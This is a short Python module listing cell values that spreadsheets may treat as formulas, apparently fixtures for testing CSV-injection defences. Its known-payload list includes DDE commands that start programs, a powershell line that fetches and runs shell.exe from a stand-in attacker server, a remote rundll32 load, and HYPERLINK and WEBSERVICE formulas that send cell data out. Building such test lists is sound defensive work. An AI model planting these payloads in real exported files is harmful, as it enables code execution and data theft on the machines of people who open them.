"""Texts that a spreadsheet could take for a formula."""

SIGNS = "=+-@＝＋－＠"
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u00ad",
    "“ \n",
]
# The six of payloadbox/csv-injection-payloads, and others of the kind.
KNOWN = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://example.test/?"&A1,"看这里")',
    '=WEBSERVICE("http://example.test/")',
    "=1+1;=2+2",
    "春茶;=2+2",
    "春茶\t=2+2",
    "春茶\r\n=2+2",
    '"=2+2"',
    "'=2+2",
]
HOSTILE_CELLS = [
    *(f"{before}{sign}2+2" for before in BEFORE for sign in SIGNS),
    *KNOWN,
]
